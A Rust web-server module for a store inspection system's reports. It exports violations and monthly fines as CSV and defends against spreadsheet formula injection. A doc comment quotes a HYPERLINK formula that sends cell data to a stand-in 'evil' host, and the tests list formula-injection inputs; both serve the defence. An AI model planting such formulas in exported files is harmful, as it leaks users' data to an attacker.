//! The office's reports and exports: monthly fines per person and per rule, the weekly
//! trend, CSV of violations and of the monthly report, routine schedules and the routines
//! that were missed, and who answers for a violation.

use std::collections::BTreeMap;

use axum::extract::{Path, Query, State};
use axum::http::header;
use axum::response::{IntoResponse, Response};
use axum::routing::{get, put};
use axum::{Json, Router};
use chrono::{Datelike, Duration, NaiveDate};
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};
use shared::ids::SiteId;
use shared::policy::{self, Action};
use shared::template::FieldError;
use shared::time::CHINA;

use super::documents::{ViolationsQuery, readable_sites, violation_filter};
use crate::auth::AuthUser;
use crate::http::error::{ApiJson, AppError};
use crate::routines::{self, Occurrence, RoutineStatus};
use crate::state::AppState;
use crate::store::reports::{AssignOutcome, FineGroup, RoutineSchedule};

/// The most rows one CSV export of violations holds.
pub const MAX_CSV_ROWS: i64 = 100_000;

pub(super) fn router() -> Router<AppState> {
    Router::new()
        .route("/api/v1/violations.csv", get(violations_csv))
        .route("/api/v1/violations/{doc}/{key}/responsible", put(assign))
        .route("/api/v1/people", get(people))
        .route("/api/v1/reports/monthly", get(monthly))
        .route("/api/v1/reports/monthly.csv", get(monthly_csv))
        .route("/api/v1/reports/trend", get(trend))
        .route("/api/v1/routines", get(schedule).put(set_schedule))
        .route("/api/v1/routines/status", get(routine_status))
}

/// One cell of a CSV export. Text is neutralised for spreadsheets on the way out
/// ([`spreadsheet_safe`]); numbers are written as they are, so that they stay numbers.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Cell {
    /// Anything a person or a document may have written (notes, names, ids, statuses).
    Text(String),
    /// A count or an amount the server computed.
    Number(i64),
}

impl From<String> for Cell {
    fn from(s: String) -> Self {
        Cell::Text(s)
    }
}

impl From<&str> for Cell {
    fn from(s: &str) -> Self {
        Cell::Text(s.to_string())
    }
}

impl From<i64> for Cell {
    fn from(n: i64) -> Self {
        Cell::Number(n)
    }
}

/// The text of a cell as a spreadsheet program will take it as text, never as a formula
/// (CSV injection, OWASP): a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
/// return gets a leading `'`, which spreadsheets read as "this is text" and do not show.
/// A note such as `=HYPERLINK("http://evil/?"&A1)` or `-2+3` typed on a tablet would
/// otherwise be evaluated when the office opens the export.
fn spreadsheet_safe(text: &str) -> std::borrow::Cow<'_, str> {
    match text.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{text}").into(),
        _ => text.into(),
    }
}

/// A CSV download: UTF-8 with a byte-order mark, so that spreadsheet programs show the
/// Chinese text correctly. Every export goes through here, so every text cell of every
/// export is neutralised by [`spreadsheet_safe`].
fn csv_response(
    filename: &str,
    header: &[&str],
    rows: Vec<Vec<Cell>>,
) -> Result<Response, AppError> {
    let mut writer = csv::Writer::from_writer(b"\xEF\xBB\xBF".to_vec());
    let fail = |e: csv::Error| AppError::Internal(format!("csv: {e}"));
    writer.write_record(header).map_err(fail)?;
    for row in rows {
        let cells = row.iter().map(|cell| match cell {
            Cell::Text(text) => spreadsheet_safe(text),
            Cell::Number(n) => n.to_string().into(),
        });
        writer
            .write_record(cells.map(|c| c.into_owned()))
            .map_err(fail)?;
    }
    let bytes = writer
        .into_inner()
        .map_err(|e| AppError::Internal(format!("csv: {e}")))?;
    Ok((
        [
            (header::CONTENT_TYPE, "text/csv; charset=utf-8".to_string()),
            (
                header::CONTENT_DISPOSITION,
                format!("attachment; filename=\"{filename}\""),
            ),
        ],
        bytes,
    )
        .into_response())
}

fn rule_title(rule: &str) -> String {
    shared::ids::RuleId::parse(rule.to_string())
        .ok()
        .and_then(|id| shared::catalog::find(&id))
        .map(|r| r.title.zh.clone())
        .unwrap_or_default()
}

fn beijing_time(ms: i64) -> String {
    chrono::DateTime::from_timestamp_millis(ms)
        .map(|t| t.with_timezone(&CHINA).format("%Y-%m-%d %H:%M").to_string())
        .unwrap_or_default()
}

/// Which header row a CSV export has: Chinese for the office (the default), or the English
/// codes scripts read (`?headers=codes`). The columns and their order are the same.
fn header_row<'a>(
    headers: Option<&str>,
    columns: &[(&'a str, &'a str)],
) -> Result<Vec<&'a str>, AppError> {
    match headers {
        None | Some("" | "zh") => Ok(columns.iter().map(|(_, zh)| *zh).collect()),
        Some("codes") => Ok(columns.iter().map(|(code, _)| *code).collect()),
        Some(other) => Err(AppError::BadRequest(format!(
            "headers must be codes or zh, not {other}"
        ))
        .because("unknown_headers")
        .with("headers", other)),
    }
}

/// The Chinese name of a violation's review status.
fn status_zh(status: &str) -> &str {
    match status {
        "open" => "待处理",
        "acknowledged" => "已确认",
        "corrected" => "已整改",
        "waived" => "已免罚",
        other => other,
    }
}

/// The Chinese name of a fine type.
fn fine_type_zh(fine_type: &str) -> &str {
    match fine_type {
        "none" => "无罚款",
        "yuan" => "罚款",
        "dismissal_review" => "开除审查",
        "replace_tool" => "照价赔偿",
        other => other,
    }
}

/// The violations export's columns: code header, Chinese header. The first sixteen are
/// the export's columns as they always were; the names come after them, so that a reader
/// of the old columns by position still reads the same cells.
const VIOLATION_COLUMNS: [(&str, &str); 20] = [
    ("recorded_at", "记录时间"),
    ("site", "门店"),
    ("rule", "条款"),
    ("rule_title", "条款名称"),
    ("area", "区域"),
    ("item", "检查项"),
    ("responsible_role", "责任岗位代码"),
    ("responsible_user", "责任人账号"),
    ("responsible_name", "责任人"),
    ("occurrences", "次数"),
    ("fine_type", "罚款类型代码"),
    ("fine_yuan", "罚款金额（元）"),
    ("status", "状态代码"),
    ("recorded_by", "记录人账号"),
    ("note", "备注"),
    ("inspection", "所属检查"),
    ("responsible_role_name", "责任岗位"),
    ("fine_type_name", "罚款类型"),
    ("status_name", "状态"),
    ("recorded_by_name", "记录人"),
];

async fn violations_csv(
    State(state): State<AppState>,
    auth: AuthUser,
    Query(mut q): Query<ViolationsQuery>,
) -> Result<Response, AppError> {
    let header = header_row(q.headers.take().as_deref(), &VIOLATION_COLUMNS)?;
    let mut filter = violation_filter(&auth, q, 50)?;
    filter.limit = MAX_CSV_ROWS;
    filter.offset = 0;
    let (rows, _) = state.store.violations(&filter).await?;
    let names: BTreeMap<String, String> = state
        .store
        .users_of_sites(&filter.sites)
        .await?
        .into_iter()
        .map(|u| (u.id.to_string(), u.display_name))
        .collect();
    let mut out: Vec<Vec<Cell>> = Vec::with_capacity(rows.len());
    for r in rows {
        let note = r
            .evidence
            .as_array()
            .map(|e| {
                e.iter()
                    .filter_map(|x| x.get("note").and_then(Value::as_str))
                    .collect::<Vec<_>>()
                    .join(" / ")
            })
            .unwrap_or_default();
        let role_name = shared::role::Role::parse(&r.responsible_role)
            .map(|role| role.name().zh)
            .unwrap_or_else(|| r.responsible_role.clone());
        let fine_type_name = fine_type_zh(&r.fine_type).to_string();
        let status_name = status_zh(&r.status).to_string();
        let recorder_name = names
            .get(&r.recorded_by)
            .cloned()
            .unwrap_or_else(|| r.recorded_by.clone());
        out.push(vec![
            beijing_time(r.recorded_at).into(),
            r.site_id.into(),
            r.rule_id.clone().into(),
            rule_title(&r.rule_id).into(),
            r.area_id.unwrap_or_default().into(),
            r.item_id.into(),
            r.responsible_role.into(),
            r.responsible_user.unwrap_or_default().into(),
            r.responsible_name.unwrap_or_default().into(),
            r.occurrences.into(),
            r.fine_type.into(),
            r.fine_yuan.into(),
            r.status.into(),
            r.recorded_by.into(),
            note.into(),
            r.doc_id.into(),
            role_name.into(),
            fine_type_name.into(),
            status_name.into(),
            recorder_name.into(),
        ]);
    }
    csv_response("violations.csv", &header, out)
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct AssignBody {
    user_id: Option<String>,
}

async fn assign(
    State(state): State<AppState>,
    auth: AuthUser,
    Path((doc, key)): Path<(String, String)>,
    ApiJson(body): ApiJson<AssignBody>,
) -> Result<Json<Value>, AppError> {
    let missing =
        || AppError::NotFound("no such violation".to_string()).because("no_such_violation");
    let (site, _) = state
        .store
        .violation_site_and_status(&doc, &key)
        .await?
        .ok_or_else(missing)?;
    let site = SiteId::parse(site).map_err(|e| AppError::Internal(e.to_string()))?;
    if !auth.user.belongs_to(&site) {
        return Err(missing());
    }
    policy::authorize(&auth.user, Action::Review, Some(&site))?;
    let person = body.user_id.filter(|u| !u.is_empty());
    if let Some(person) = &person {
        let known = state
            .store
            .user_by_id(person)
            .await?
            .is_some_and(|u| u.sites.contains(&site));
        if !known {
            return Err(AppError::Invalid(vec![
                FieldError::new(
                    "user_id",
                    "not_user_of_site",
                    format!("{person} is not a user of site {site}"),
                )
                .with("user", person.as_str())
                .with("site", site.as_str()),
            ]));
        }
    }
    match state
        .store
        .assign_violation(&doc, &key, auth.user.id.as_str(), person.as_deref())
        .await?
    {
        AssignOutcome::NotFound => Err(missing()),
        AssignOutcome::Already => Err(match &person {
            Some(person) => {
                AppError::Conflict(format!("the violation is already assigned to {person}"))
                    .because("already_assigned")
                    .with("user", person.as_str())
            }
            None => AppError::Conflict("the violation is already unassigned".to_string())
                .because("already_unassigned"),
        }),
        AssignOutcome::Done => Ok(Json(
            json!({ "doc_id": doc, "answer_key": key, "responsible_user": person }),
        )),
    }
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct SiteQuery {
    site: Option<String>,
}

/// The one site a request names, which the caller must belong to.
fn one_site(auth: &AuthUser, site: Option<&str>) -> Result<String, AppError> {
    let site = match site {
        Some(s) => s.to_string(),
        None => match auth.user.sites.iter().next() {
            Some(s) if auth.user.sites.len() == 1 => s.to_string(),
            _ => {
                return Err(
                    AppError::BadRequest("site is required".to_string()).because("site_required")
                );
            }
        },
    };
    readable_sites(auth, Some(&site))?;
    Ok(site)
}

async fn people(
    State(state): State<AppState>,
    auth: AuthUser,
    Query(q): Query<SiteQuery>,
) -> Result<Json<Value>, AppError> {
    let sites = readable_sites(&auth, q.site.as_deref())?;
    let users = state.store.users_of_sites(&sites).await?;
    let people: Vec<Value> = users
        .iter()
        .map(|u| {
            json!({ "id": u.id, "display_name": u.display_name, "role": u.role, "sites": u.sites, "disabled": u.disabled })
        })
        .collect();
    Ok(Json(json!({ "people": people })))
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct MonthQuery {
    site: Option<String>,
    /// `YYYY-MM`; the current month (China Standard Time) if omitted.
    month: Option<String>,
    /// The CSV's header row: `codes` for English codes, Chinese otherwise.
    headers: Option<String>,
}

/// The monthly report export's columns: code header, Chinese header.
const MONTHLY_COLUMNS: [(&str, &str); 11] = [
    ("month", "月份"),
    ("user_id", "责任人账号"),
    ("name", "责任人"),
    ("rule", "条款"),
    ("rule_title", "条款名称"),
    ("violations", "违规数"),
    ("fine_yuan", "应罚金额（元）"),
    ("waived", "免罚数"),
    ("waived_yuan", "免罚金额（元）"),
    ("dismissal_reviews", "开除审查"),
    ("tools_to_replace", "照价赔偿"),
];

/// The first day of a `YYYY-MM` month and of the next.
fn month_bounds(month: Option<&str>) -> Result<(NaiveDate, NaiveDate), AppError> {
    let first = match month {
        Some(m) => NaiveDate::parse_from_str(&format!("{m}-01"), "%Y-%m-%d").map_err(|_| {
            AppError::BadRequest("month must be YYYY-MM".to_string())
                .because("bad_month")
                .with("month", m)
        })?,
        None => {
            let today = routines::date_of(crate::store::now_ms());
            today.with_day(1).unwrap_or(today)
        }
    };
    let next = if first.month() == 12 {
        NaiveDate::from_ymd_opt(first.year() + 1, 1, 1)
    } else {
        NaiveDate::from_ymd_opt(first.year(), first.month() + 1, 1)
    }
    .ok_or_else(|| {
        AppError::BadRequest("month out of range".to_string()).because("month_out_of_range")
    })?;
    Ok((first, next))
}

/// Fines and counts of one person or one rule in a month.
#[derive(Debug, Clone, Default, Serialize)]
struct Tally {
    /// Violations recorded.
    violations: i64,
    /// Fines due in yuan (waived ones excluded).
    fine_yuan: i64,
    /// Violations whose fine was waived.
    waived: i64,
    /// Yuan waived.
    waived_yuan: i64,
    /// Violations that call for a dismissal review.
    dismissal_reviews: i64,
    /// Violations that call for replacing a tool.
    tools_to_replace: i64,
}

impl Tally {
    fn add(&mut self, g: &FineGroup) {
        self.violations += g.count;
        if g.status == "waived" {
            self.waived += g.count;
            self.waived_yuan += g.yuan;
            return;
        }
        self.fine_yuan += g.yuan;
        match g.fine_type.as_str() {
            "dismissal_review" => self.dismissal_reviews += g.count,
            "replace_tool" => self.tools_to_replace += g.count,
            _ => {}
        }
    }
}

#[derive(Debug, Serialize)]
struct PersonLine {
    user_id: Option<String>,
    display_name: Option<String>,
    #[serde(flatten)]
    tally: Tally,
    by_rule: BTreeMap<String, Tally>,
}

#[derive(Debug, Serialize)]
struct MonthlyReport {
    month: String,
    sites: Vec<String>,
    from: i64,
    to: i64,
    people: Vec<PersonLine>,
    rules: Vec<Value>,
    total: Tally,
    routines: Vec<Value>,
}

async fn monthly_report(
    state: &AppState,
    auth: &AuthUser,
    q: MonthQuery,
) -> Result<MonthlyReport, AppError> {
    let sites = readable_sites(auth, q.site.as_deref())?;
    let (first, next) = month_bounds(q.month.as_deref())?;
    let (from, to) = (routines::day_start(first), routines::day_start(next));
    let groups = state.store.fine_groups(&sites, from, to).await?;
    let mut people: BTreeMap<Option<String>, PersonLine> = BTreeMap::new();
    let mut rules: BTreeMap<String, Tally> = BTreeMap::new();
    let mut total = Tally::default();
    for g in &groups {
        let line = people
            .entry(g.user_id.clone())
            .or_insert_with(|| PersonLine {
                user_id: g.user_id.clone(),
                display_name: g.display_name.clone(),
                tally: Tally::default(),
                by_rule: BTreeMap::new(),
            });
        line.tally.add(g);
        line.by_rule.entry(g.rule_id.clone()).or_default().add(g);
        rules.entry(g.rule_id.clone()).or_default().add(g);
        total.add(g);
    }
    // Routines missed this month (up to today), per site and template.
    let today = routines::date_of(crate::store::now_ms());
    let until = next.min(today + Duration::days(1));
    let mut missed = Vec::new();
    for site in &sites {
        for (template, count) in missed_routines(state, site, first, until).await? {
            missed.push(json!({ "site": site, "template_id": template, "missed": count }));
        }
    }
    let mut people: Vec<PersonLine> = people.into_values().collect();
    people.sort_by(|a, b| {
        b.tally
            .fine_yuan
            .cmp(&a.tally.fine_yuan)
            .then(b.tally.violations.cmp(&a.tally.violations))
    });
    Ok(MonthlyReport {
        month: first.format("%Y-%m").to_string(),
        sites,
        from,
        to,
        people,
        rules: rules
            .into_iter()
            .map(|(rule, t)| json!({ "rule_id": rule, "title": rule_title(&rule), "tally": t }))
            .collect(),
        total,
        routines: missed,
    })
}

/// How many occurrences of each scheduled template were missed at `site` on `[from, to)`.
async fn missed_routines(
    state: &AppState,
    site: &str,
    from: NaiveDate,
    to: NaiveDate,
) -> Result<Vec<(String, usize)>, AppError> {
    let occurrences = site_occurrences(state, site, from, to).await?;
    let mut counts: BTreeMap<String, usize> = BTreeMap::new();
    for o in occurrences {
        let missed = counts.entry(o.template_id).or_default();
        if o.status == RoutineStatus::Missed {
            *missed += 1;
        }
    }
    Ok(counts.into_iter().collect())
}

async fn site_occurrences(
    state: &AppState,
    site: &str,
    from: NaiveDate,
    to: NaiveDate,
) -> Result<Vec<Occurrence>, AppError> {
    let schedule = state.store.routine_schedule(site).await?;
    let templates: Vec<String> = schedule.iter().map(|s| s.template_id.clone()).collect();
    let runs = state
        .store
        .routine_runs(
            site,
            &templates,
            routines::runs_from(from),
            routines::day_start(to),
        )
        .await?;
    Ok(routines::occurrences(
        &schedule,
        &runs,
        from,
        to,
        crate::store::now_ms(),
    ))
}

async fn monthly(
    State(state): State<AppState>,
    auth: AuthUser,
    Query(q): Query<MonthQuery>,
) -> Result<Json<MonthlyReport>, AppError> {
    Ok(Json(monthly_report(&state, &auth, q).await?))
}

async fn monthly_csv(
    State(state): State<AppState>,
    auth: AuthUser,
    Query(q): Query<MonthQuery>,
) -> Result<Response, AppError> {
    let header = header_row(q.headers.as_deref(), &MONTHLY_COLUMNS)?;
    let report = monthly_report(&state, &auth, q).await?;
    let mut rows: Vec<Vec<Cell>> = Vec::new();
    let line = |user: &str, name: &str, rule: &str, t: &Tally| {
        vec![
            report.month.as_str().into(),
            user.into(),
            name.into(),
            rule.into(),
            rule_title(rule).into(),
            t.violations.into(),
            t.fine_yuan.into(),
            t.waived.into(),
            t.waived_yuan.into(),
            t.dismissal_reviews.into(),
            t.tools_to_replace.into(),
        ]
    };
    for p in &report.people {
        let user = p.user_id.as_deref().unwrap_or("");
        let name = p.display_name.as_deref().unwrap_or("(未指定)");
        for (rule, t) in &p.by_rule {
            rows.push(line(user, name, rule, t));
        }
        rows.push(line(user, name, "", &p.tally));
    }
    rows.push(line("", "合计", "", &report.total));
    csv_response(&format!("report-{}.csv", report.month), &header, rows)
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct TrendQuery {
    site: Option<String>,
    /// How many weeks, ending with the current one (1–52, default 12).
    weeks: Option<i64>,
}

async fn trend(
    State(state): State<AppState>,
    auth: AuthUser,
    Query(q): Query<TrendQuery>,
) -> Result<Json<Value>, AppError> {
    let sites = readable_sites(&auth, q.site.as_deref())?;
    let weeks = q.weeks.unwrap_or(12);
    if !(1..=52).contains(&weeks) {
        return Err(
            AppError::BadRequest("weeks must be between 1 and 52".to_string())
                .because("weeks_out_of_range")
                .with("min", 1)
                .with("max", 52),
        );
    }
    let today = routines::date_of(crate::store::now_ms());
    let this_monday = today - Duration::days(i64::from(today.weekday().num_days_from_monday()));
    let first = this_monday - Duration::weeks(weeks - 1);
    let (from, to) = (
        routines::day_start(first),
        routines::day_start(this_monday + Duration::weeks(1)),
    );
    let series = |counts: Vec<crate::store::reports::WeekCount>| {
        let mut by_key: BTreeMap<String, Vec<i64>> = BTreeMap::new();
        for c in counts {
            let row = by_key
                .entry(c.key.unwrap_or_default())
                .or_insert_with(|| vec![0; weeks as usize]);
            if let Some(slot) = usize::try_from(c.week).ok().and_then(|w| row.get_mut(w)) {
                *slot += c.count;
            }
        }
        by_key
    };
    let by_rule = series(state.store.weekly_counts(&sites, from, to, false).await?);
    let by_area = series(state.store.weekly_counts(&sites, from, to, true).await?);
    let week_starts: Vec<String> = (0..weeks)
        .map(|w| (first + Duration::weeks(w)).to_string())
        .collect();
    Ok(Json(
        json!({ "weeks": week_starts, "by_rule": by_rule, "by_area": by_area }),
    ))
}

async fn schedule(
    State(state): State<AppState>,
    auth: AuthUser,
    Query(q): Query<SiteQuery>,
) -> Result<Json<Value>, AppError> {
    let site = one_site(&auth, q.site.as_deref())?;
    let schedule = state.store.routine_schedule(&site).await?;
    Ok(Json(json!({ "site": site, "schedule": schedule })))
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct ScheduleBody {
    schedule: Vec<RoutineSchedule>,
}

async fn set_schedule(
    State(state): State<AppState>,
    auth: AuthUser,
    Query(q): Query<SiteQuery>,
    ApiJson(body): ApiJson<ScheduleBody>,
) -> Result<Json<Value>, AppError> {
    let site = one_site(&auth, q.site.as_deref())?;
    let site_id = SiteId::parse(site.clone()).map_err(|e| {
        AppError::BadRequest(e.to_string())
            .because("unknown_site")
            .with("site", site.as_str())
    })?;
    policy::authorize(&auth.user, Action::ManageUsers, Some(&site_id))?;
    let templates = super::templates::current_templates(&state).await?;
    let mut errors = Vec::new();
    let mut seen = std::collections::BTreeSet::new();
    for (i, s) in body.schedule.iter().enumerate() {
        let field = |name: &str| format!("schedule[{i}].{name}");
        if !templates.iter().any(|t| t.id.as_str() == s.template_id) {
            errors.push(
                FieldError::new(
                    field("template_id"),
                    "unknown_template",
                    format!("no template {}", s.template_id),
                )
                .with("template", s.template_id.as_str()),
            );
        }
        if !seen.insert(s.template_id.clone()) {
            errors.push(
                FieldError::new(
                    field("template_id"),
                    "template_scheduled_twice",
                    "each template may be scheduled once",
                )
                .with("template", s.template_id.as_str()),
            );
        }
        if s.weekday.is_some_and(|w| !(1..=7).contains(&w)) {
            errors.push(FieldError::new(
                field("weekday"),
                "bad_weekday",
                "must be 1 (Monday) to 7 (Sunday), or null for every day",
            ));
        }
        if !(0..1440).contains(&s.due_minute) {
            errors.push(FieldError::new(
                field("due_minute"),
                "bad_due_minute",
                "must be 0 to 1439 minutes after midnight",
            ));
        }
    }
    if !errors.is_empty() {
        return Err(AppError::Invalid(errors));
    }
    state
        .store
        .set_routine_schedule(&site, &body.schedule)
        .await?;
    let schedule = state.store.routine_schedule(&site).await?;
    Ok(Json(json!({ "site": site, "schedule": schedule })))
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct StatusQuery {
    site: Option<String>,
    /// First day (`YYYY-MM-DD`, China Standard Time); six days before `to` if omitted.
    from: Option<String>,
    /// Last day, inclusive; today if omitted.
    to: Option<String>,
}

async fn routine_status(
    State(state): State<AppState>,
    auth: AuthUser,
    Query(q): Query<StatusQuery>,
) -> Result<Json<Value>, AppError> {
    let site = one_site(&auth, q.site.as_deref())?;
    let day = |field: &str, s: &str| {
        NaiveDate::parse_from_str(s, "%Y-%m-%d").map_err(|_| {
            AppError::BadRequest(format!("{field} must be a YYYY-MM-DD date"))
                .because("bad_date")
                .with("field", field)
        })
    };
    let last = match q.to.as_deref() {
        Some(s) => day("to", s)?,
        None => routines::date_of(crate::store::now_ms()),
    };
    let first = match q.from.as_deref() {
        Some(s) => day("from", s)?,
        None => last - Duration::days(6),
    };
    if first > last || (last - first).num_days() > 92 {
        return Err(AppError::BadRequest(
            "from must be on or before to, at most 93 days apart".to_string(),
        )
        .because("bad_date_range")
        .with("max_days", 93));
    }
    let occurrences = site_occurrences(&state, &site, first, last + Duration::days(1)).await?;
    let missed = occurrences
        .iter()
        .filter(|o| o.status == RoutineStatus::Missed)
        .count();
    Ok(Json(
        json!({ "site": site, "from": first, "to": last, "missed": missed, "occurrences": occurrences }),
    ))
}

#[cfg(test)]
mod tests {
    use super::spreadsheet_safe;

    #[test]
    fn cells_a_spreadsheet_would_evaluate_are_text() {
        for (cell, safe) in [
            ("=1+2", "'=1+2"),
            ("+SUM(A1)", "'+SUM(A1)"),
            ("-2+3", "'-2+3"),
            ("@cmd", "'@cmd"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("油漆=危险", "油漆=危险"),
            ("rags", "rags"),
            (" =1", " =1"),
            ("", ""),
        ] {
            assert_eq!(spreadsheet_safe(cell), safe, "{cell:?}");
        }
    }
}
